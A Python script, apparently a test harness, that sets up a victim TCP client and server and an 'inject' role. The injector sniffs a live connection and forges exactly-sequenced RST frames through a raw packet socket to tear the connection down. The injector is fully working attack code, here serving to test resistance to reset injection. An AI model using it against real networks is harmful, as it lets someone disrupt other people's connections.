#!/usr/bin/python3
"""
The forged-RST attack on a long-lived TCP connection, in three roles:

  rst_attack.py server --bind ADDR --port P --result FILE [--duration S]
  rst_attack.py client --connect ADDR --port P --result FILE --stop-file F
                       [--sport P] [--duration S] [--chunk N] [--interval S]
  rst_attack.py inject --inject-iface IF [--sniff-iface IF]
                       --src ADDR --sport P --dst ADDR --dport P
                       [--seq N | --seq-offset D ...] [--count K] [--timeout S]
                       [--idle S] [--src-mac M] [--dst-mac M] [--ready-file F]

server and client are the two ends of the victim connection: the client
sends CHUNK bytes every INTERVAL seconds (a few KB/s) until the stop file
appears, then half-closes and waits for the server to close; the server
counts what it reads. Each writes one JSON object to its result file when the
connection ends: "outcome" is "closed"/"eof" for an orderly end, "reset" when
the connection was reset, "timeout" when DURATION passed, plus byte counts.

inject forges TCP RSTs from --src:--sport to --dst:--dport and writes them as
whole Ethernet frames onto --inject-iface through a packet socket, so they
bypass the sending host's IP stack and policy. With --seq N it sends one RST
with sequence number N. Otherwise it learns the number: it sniffs segments
from src to dst on --sniff-iface (default: the inject interface; on a host
protected by ESP, the TUN device, where traffic is clear text) and, after
each data segment, forges a RST with sequence number seq + payload length
(+1 for FIN) -- the receiver's RCV.NXT, the only value a RFC 5961
receiver accepts -- plus each --seq-offset (default 0; a large offset gives
a RST outside the window, 1 an in-window but inexact one). It stops after
--count data segments, --timeout seconds, or when the connection has been
quiet for --idle seconds after a RST. One JSON line per RST sent goes
to stdout: {"seq": N, "learned": M, "offset": D}. Exit status 0 when at least
one RST was sent, 2 when nothing was learned in time.
"""

import argparse
import functools
import ipaddress
import json
import os
import socket
import subprocess
import sys
import time
import types


def write_result(path, obj):
    """Atomically (rename) write the JSON result for the waiting test."""
    tmp = path + '.tmp'
    with open(tmp, 'w') as f:
        json.dump(obj, f)
        f.write('\n')
    os.rename(tmp, path)


def family_of(addr):
    return socket.AF_INET6 if ':' in addr else socket.AF_INET


# ---------------------------------------------------------------- victims


def run_server(a):
    s = socket.socket(family_of(a.bind), socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((a.bind, a.port))
    s.listen(1)
    deadline = time.monotonic() + a.duration
    s.settimeout(a.duration)
    total, outcome = 0, 'timeout'
    try:
        c, _ = s.accept()
    except socket.timeout:
        write_result(a.result, {'outcome': 'no-client', 'bytes': 0})
        return 1
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            break
        c.settimeout(left)
        try:
            b = c.recv(65536)
        except ConnectionResetError:
            outcome = 'reset'
            break
        except socket.timeout:
            break
        except OSError as e:
            outcome = 'error: %s' % e
            break
        if not b:
            outcome = 'eof'
            break
        total += len(b)
    c.close()
    write_result(a.result, {'outcome': outcome, 'bytes': total})
    return 0


def client_finish(c, deadline):
    """Half-close, then wait for the server's close: 'closed' or an error."""
    c.shutdown(socket.SHUT_WR)
    while True:
        c.settimeout(max(0.01, deadline - time.monotonic()))
        b = c.recv(4096)
        if not b:
            return 'closed'


def run_client(a):
    deadline = time.monotonic() + a.duration
    c = socket.socket(family_of(a.connect), socket.SOCK_STREAM)
    c.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if a.sport:
        c.bind(('', a.sport))
    c.settimeout(5)
    c.connect((a.connect, a.port))
    c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    chunk = bytes(i & 0xff for i in range(a.chunk))
    sent, outcome = 0, 'timeout'
    try:
        while time.monotonic() < deadline:
            if os.path.exists(a.stop_file):
                outcome = client_finish(c, deadline)
                break
            c.settimeout(max(0.01, deadline - time.monotonic()))
            c.sendall(chunk)
            sent += len(chunk)
            time.sleep(a.interval)
    except (ConnectionResetError, BrokenPipeError):
        outcome = 'reset'
    except socket.timeout:
        outcome = 'timeout'
    except OSError as e:
        outcome = 'error: %s' % e
    c.close()
    write_result(a.result, {'outcome': outcome, 'bytes': sent})
    return 0


# ---------------------------------------------------------------- attacker


@functools.lru_cache(maxsize=None)
def sc():
    """The scapy names the attacker uses. Imported module by module, not via
    scapy.all, which takes several times longer to load (the victims do not
    need scapy at all)."""
    from scapy.arch import get_if_hwaddr
    from scapy.config import conf
    from scapy.layers.inet import IP, TCP
    from scapy.layers.inet6 import IPv6, getmacbyip6
    from scapy.layers.l2 import Ether, getmacbyip
    from scapy.sendrecv import sniff
    return types.SimpleNamespace(
        get_if_hwaddr=get_if_hwaddr, conf=conf, IP=IP, TCP=TCP, IPv6=IPv6,
        getmacbyip6=getmacbyip6, Ether=Ether, getmacbyip=getmacbyip, sniff=sniff)


def neighbour_mac(iface, addr):
    """The link-layer address of addr on iface, from the kernel's neighbour
    table (filled by the victim connection itself); None if absent."""
    out = subprocess.run(['ip', '-j', 'neigh', 'show', 'to', addr, 'dev', iface],
                         capture_output=True, text=True, check=False).stdout
    try:
        for n in json.loads(out or '[]'):
            if n.get('lladdr'):
                return n['lladdr']
    except ValueError:
        pass
    return None


def resolve_dst_mac(a, pkt):
    """The destination MAC for forged frames: --dst-mac; else that of the
    sniffed frame when sniffing where we inject (it went from A to B); else
    the kernel's neighbour entry; else an ARP / neighbour solicitation."""
    if a.dst_mac:
        return a.dst_mac
    same = (a.sniff_iface or a.inject_iface) == a.inject_iface
    if same and pkt is not None and sc().Ether in pkt:
        return pkt[sc().Ether].dst
    mac = neighbour_mac(a.inject_iface, a.dst)
    if not mac:
        mac = (sc().getmacbyip6 if ':' in a.dst else sc().getmacbyip)(a.dst)
    if not mac:
        sys.exit('inject: no link-layer address for %s on %s' % (a.dst, a.inject_iface))
    return mac


def l3_of(pkt):
    """The IP or IPv6 layer of a sniffed packet, whatever the link type (on a
    TUN device scapy may hand back undecoded bytes)."""
    for layer in (sc().IP, sc().IPv6):
        if layer in pkt:
            return pkt[layer]
    raw = bytes(pkt)
    if raw[:1] and raw[0] >> 4 == 4:
        return sc().IP(raw)
    if raw[:1] and raw[0] >> 4 == 6:
        return sc().IPv6(raw)
    return None


def next_seq(a, pkt):
    """RCV.NXT at the receiver after this src->dst data segment, or None when
    the packet is not a data segment of the connection (RFC 793 §3.3: a FIN
    occupies one sequence number after the data)."""
    ip = l3_of(pkt)
    if ip is None or sc().TCP not in ip:
        return None
    t = ip[sc().TCP]
    if t.sport != a.sport or t.dport != a.dport:
        return None
    if ipaddress.ip_address(ip.src) != a.src_ip or ipaddress.ip_address(ip.dst) != a.dst_ip:
        return None
    if t.flags.R:
        return None
    if ip.version == 4:
        plen = ip.len - ip.ihl * 4 - t.dataofs * 4
    else:
        plen = ip.plen - t.dataofs * 4  # no extension headers on this path
    if plen <= 0:
        return None  # a pure ACK, the handshake or a bare FIN: wait for data
    return (t.seq + plen + int(bool(t.flags.F))) & 0xffffffff


class Injector:
    """Prebuilt frame and an open packet socket, so a RST leaves within a
    fraction of a millisecond of the segment that taught its number. The
    destination MAC is settled on the first send (see resolve_dst_mac)."""

    def __init__(self, a):
        s = sc()
        self.a = a
        l3 = s.IPv6(src=a.src, dst=a.dst) if ':' in a.dst else s.IP(src=a.src, dst=a.dst)
        self.frame = s.Ether(src=a.src_mac or s.get_if_hwaddr(a.inject_iface)) / l3 / s.TCP(
            sport=a.sport, dport=a.dport, flags='R', window=0)
        self.dst_mac = None
        self.sock = s.conf.L2socket(iface=a.inject_iface)
        self.sent = 0

    def send(self, seq, learned, offset, pkt=None):
        if self.dst_mac is None:
            self.dst_mac = resolve_dst_mac(self.a, pkt)
        f = self.frame.copy()
        f.dst = self.dst_mac
        f[sc().TCP].seq = seq
        self.sock.send(f)
        self.sent += 1
        print(json.dumps({'seq': seq, 'learned': learned, 'offset': offset}), flush=True)


def run_inject(a):
    inj = Injector(a)
    if a.seq is not None:
        inj.send(a.seq & 0xffffffff, None, 0)
        return 0
    offsets = a.seq_offset or [0]
    state = {'segments': 0, 'last': time.monotonic()}

    def on_packet(pkt):
        n = next_seq(a, pkt)
        if n is None:
            return
        for off in offsets:
            inj.send((n + off) & 0xffffffff, n, off, pkt)
        state['segments'] += 1
        state['last'] = time.monotonic()

    # One capture socket for the whole run (nothing is missed between the
    # short sniff() calls that let the loop check its deadlines).
    listen = sc().conf.L2listen(iface=a.sniff_iface or a.inject_iface)
    if a.ready_file:
        open(a.ready_file, 'w').close()
    deadline = time.monotonic() + a.timeout
    while state['segments'] < a.count:
        now = time.monotonic()
        if now >= deadline:
            break
        if inj.sent and now - state['last'] >= a.idle:
            break  # the connection went quiet after a RST: it is gone
        sc().sniff(opened_socket=listen, prn=on_packet, store=False,
                   stop_filter=lambda _p: state['segments'] >= a.count,
                   timeout=min(0.1, deadline - now))
    listen.close()
    inj.sock.close()
    return 0 if inj.sent else 2


# ---------------------------------------------------------------- main


def int_any(s):
    return int(s, 0)


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__.split('\n\n')[0])
    sub = p.add_subparsers(dest='role', required=True)
    s = sub.add_parser('server')
    s.add_argument('--bind', required=True)
    s.add_argument('--port', type=int, required=True)
    s.add_argument('--result', required=True)
    s.add_argument('--duration', type=float, default=10)
    c = sub.add_parser('client')
    c.add_argument('--connect', required=True)
    c.add_argument('--port', type=int, required=True)
    c.add_argument('--result', required=True)
    c.add_argument('--stop-file', required=True)
    c.add_argument('--sport', type=int, default=0, help='fixed source port (0: any)')
    c.add_argument('--duration', type=float, default=10)
    c.add_argument('--chunk', type=int, default=256)
    c.add_argument('--interval', type=float, default=0.05)
    i = sub.add_parser('inject')
    i.add_argument('--inject-iface', required=True)
    i.add_argument('--sniff-iface')
    i.add_argument('--src', required=True)
    i.add_argument('--sport', type=int, required=True)
    i.add_argument('--dst', required=True)
    i.add_argument('--dport', type=int, required=True)
    i.add_argument('--seq', type=int_any)
    i.add_argument('--seq-offset', type=int_any, action='append')
    i.add_argument('--count', type=int, default=3)
    i.add_argument('--timeout', type=float, default=5)
    i.add_argument('--idle', type=float, default=0.5,
                   help='after a RST, stop when no segment came for this long')
    i.add_argument('--src-mac')
    i.add_argument('--dst-mac')
    i.add_argument('--ready-file', help='created once the sniffer is capturing')
    a = p.parse_args(argv)
    if a.role == 'client' and not 0 < a.chunk <= 65536:
        p.error('--chunk must be 1..65536')
    if a.role == 'inject':
        if not 0 < a.count <= 100:
            p.error('--count must be 1..100')
        a.src_ip, a.dst_ip = ipaddress.ip_address(a.src), ipaddress.ip_address(a.dst)
        if a.src_ip.version != a.dst_ip.version:
            p.error('--src and --dst must be of one family')
    return a


def main(argv):
    a = parse_args(argv)
    return {'server': run_server, 'client': run_client, 'inject': run_inject}[a.role](a)


if __name__ == '__main__':
    sys.exit(main(sys.argv[1:]))
